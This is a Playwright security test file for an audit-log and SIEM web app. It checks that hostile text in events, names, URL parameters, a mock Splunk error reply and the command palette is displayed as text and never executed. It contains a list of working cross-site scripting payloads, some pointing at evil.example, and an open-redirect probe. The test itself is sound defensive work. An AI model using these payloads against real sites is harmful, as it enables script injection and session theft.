import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { pagesOf, settled } from './pages.ts';
import { ANA, connect, expect, setUp, TEAM, test } from './rig.ts';
import { append } from './team.ts';

/** Each would set `__pwned`, open a dialog or ask another origin, were it taken for anything but text. */
const SCRIPTS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__pwned=2">',
  '\'"--></style></script><svg onload=window.__pwned=3>',
  '<iframe srcdoc="<script>parent.__pwned=4</script>">',
  '<a href="javascript:window.__pwned=5" autofocus onfocus="window.__pwned=5">x</a>',
  'javascript:window.__pwned=6//',
  '<details open ontoggle=alert(7)>',
  '{{constructor.constructor("window.__pwned=8")()}}',
  '$' + '{window.__pwned=9}',
  '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>',
  '<link rel=stylesheet href=https://evil.example/z.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input name=a autofocus onfocus=alert(10)></form>',
  '![x](https://evil.example/p.png) [x](javascript:alert(11))',
  '\u202egnp.exe<img src=x onerror=alert(12)>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(13)&gt;">',
  '</title><object data="data:text/html,<script>parent.__pwned=14</script>">',
];

test('what events, names and SIEMs say is text, wherever it is shown', async ({ page, rig }) => {
  // Every page there is, one after the other.
  test.setTimeout(120_000);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      console.error(`a page broke its policy: ${violatedDirective} ${blockedURI}`),
    );
  });
  const siem = createServer((request, response) => {
    const text = SCRIPTS.join(' ');
    request.resume().on('end', () => {
      response.writeHead(400, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ text, code: 6, 'invalid-event-number': 0 }));
    });
  });
  siem.listen(0, '127.0.0.1');
  await once(siem, 'listening');
  try {
    await setUp(page, rig, { ...ANA, name: SCRIPTS[2]! });
    const { port } = siem.address() as AddressInfo;
    const id = await connect(rig, 'splunk', { endpointUrl: `http://127.0.0.1:${port}`, source: SCRIPTS[1]! });
    const query = `?team=${TEAM}`;
    await rig.operator.json('PATCH', `/v1/destinations/${id}${query}`, { name: SCRIPTS[3]! });
    await rig.operator.json('PATCH', `/v1/team${query}`, { name: SCRIPTS[0]!, alerts: { mail: false } });
    await rig.operator.json('POST', '/v1/api-keys', { team: TEAM, name: SCRIPTS[2]!, scopes: ['events:read'] });
    await append(rig, ...SCRIPTS.map(hostileEvent));
    const health = `/v1/destinations/${id}/health${query}`;
    await expect
      .poll(() => rig.operator.json<{ cause: string | null }>('GET', health).then(({ cause }) => cause))
      .toContain('<');

    const unhurt = async (): Promise<void> => {
      expect(dialogs).toEqual([]);
      expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
      expect(new URL(page.url()).origin).toBe(rig.service.url);
    };
    for (const path of Object.values(pagesOf(id, 'hostile-2'))) {
      await page.goto(rig.service.url + path);
      await settled(page);
      await unhurt();
    }

    await test.step('an event, and each of its tabs', async () => {
      await page.goto(`${rig.service.url}/settings/audit-logs?event=hostile-2`);
      await expect(page.getByText(SCRIPTS[2]!).first()).toBeVisible();
      for (const tab of await page.getByRole('dialog').getByRole('tab').all()) {
        await tab.click();
        await unhurt();
      }
    });
    await test.step('filters and addresses', async () => {
      for (const script of SCRIPTS.slice(0, 6)) {
        const search = new URLSearchParams({ q: script, actor: script, eventType: script, event: script });
        await page.goto(`${rig.service.url}/settings/audit-logs?${search}`);
        await settled(page);
        await unhurt();
      }
      await page.goto(
        `${rig.service.url}/settings/${encodeURIComponent(SCRIPTS[2]!)}#${encodeURIComponent(SCRIPTS[0]!)}`,
      );
      await unhurt();
      await page.goto(`${rig.service.url}/sign-in?next=${encodeURIComponent('javascript:window.__pwned=15')}`);
      await unhurt();
    });
    await test.step('the command palette', async () => {
      await page.goto(`${rig.service.url}/settings/siem`);
      await settled(page);
      await findByName(page, '<svg');
      await unhurt();
    });
  } finally {
    siem.closeAllConnections();
    siem.close();
  }
});

async function findByName(page: Page, text: string): Promise<void> {
  await page.keyboard.press('ControlOrMeta+k');
  await page.getByPlaceholder(/./).last().fill(text);
  await expect(page.getByText('<svg').first()).toBeVisible();
}

/** The text in every place that a producer fills. */
function hostileEvent(script: string, n: number): object {
  return {
    id: `hostile-${n}`,
    timestamp: new Date().toISOString(),
    eventType: 'custom.thing',
    eventCategory: script.slice(0, 60),
    ...{ description: script, status: 'failure', failureReason: script.slice(0, 100) },
    actor: { id: script, email: script, name: script, type: 'user' },
    target: { type: script.slice(0, 60), id: script, name: script },
    context: {
      ipAddress: '203.0.113.7',
      userAgent: script,
      sessionId: script.slice(0, 60),
      requestId: script.slice(0, 60),
    },
    changes: { previous: { [script]: script }, current: { [script]: [script, { [script]: script }] } },
    metadata: { [script]: script, url: 'javascript:window.__pwned=16', html: { [script]: [script] } },
  };
}
